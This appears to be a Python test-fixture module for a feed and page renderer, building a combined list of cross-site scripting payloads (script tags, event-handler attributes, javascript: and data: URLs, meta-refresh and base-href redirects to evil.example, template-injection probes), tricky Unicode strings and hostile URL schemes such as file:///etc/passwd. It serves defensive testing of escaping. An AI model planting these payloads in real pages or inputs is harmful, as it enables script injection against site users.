"""Texts that would like to be more than text, written for this project: what feeds may say, and pages must show as it stands."""

from itertools import product

_OPENERS = """
'>
">
</p>
</title>
</textarea>
-->
]]>
`
{{
{%
${
<!--
&lt;
%3C
\\
"
'
"""
_INSIDES = """
<script>boom()</script>
<img src=x onerror=boom()>
<svg onload=boom()>
<svg/onload=boom()//
<iframe src=javascript:boom()>
<a href='javascript:boom()'>x</a>
<body onload=boom()>
<input autofocus onfocus=boom()>
<style>*{display:none}</style>
<meta http-equiv=refresh content=0;url=//evil.example>
<base href=//evil.example>
<form action=//evil.example><button>
<math><mi xlink:href='data:x,<script>boom()</script>'>
 onmouseover=boom() x=
{{ 7 * 7 }}{% raw %}{{ visit }}
<b>bold</b>
<template><script>boom()</script>
<details open ontoggle=boom()>
<video><source onerror=boom()>
&#60;script&#62;boom()&#60;/script&#62;
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x hx-get=/live hx-trigger=load>
<div hx-on:click=boom()>
<object data=data:text/html,x>
<marquee onstart=boom()>
<isindex action=javascript:boom()>
<select autofocus onfocus=boom()>
<noscript><p title="</noscript><img src=x onerror=boom()>">
<plaintext>
<frameset onload=boom()>
"""
_SCRIPTS = (
    "مرحبا بالعالم",
    "שלום עולם",
    "ภาษาไทย",
    "ﷺ",
    "Z̴̡͎̔a̵͙͂l̷̥̈g̸̜͊o̶͉̕",
    "👩‍👩‍👧‍👦🏴‍☠️",
    "日本語の見出し",
    "\u202egnirts desrever\u202c",
    "\u2066isolated\u2069",
    "a\u200bb\u200dc\u2028d",
    "ｆｕｌｌ",
    "İıſß",
    "<scr\0ipt>boom()</scr\0ipt>",
)

NAUGHTY = (*(opener + inside for opener, inside in product(("", *_OPENERS.split()), _INSIDES.strip("\n").split("\n"))), *_SCRIPTS)
ADDRESSES = (
    "javascript:boom()",
    "JaVaScRiPt:boom()",
    " javascript:boom()",
    "java\tscript:boom()",
    "data:text/html,<script>boom()</script>",
    "vbscript:boom()",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:",
    "https://",
    "\x01javascript:boom()",
    "http://[::1",
    "mailto:a@b.c",
)
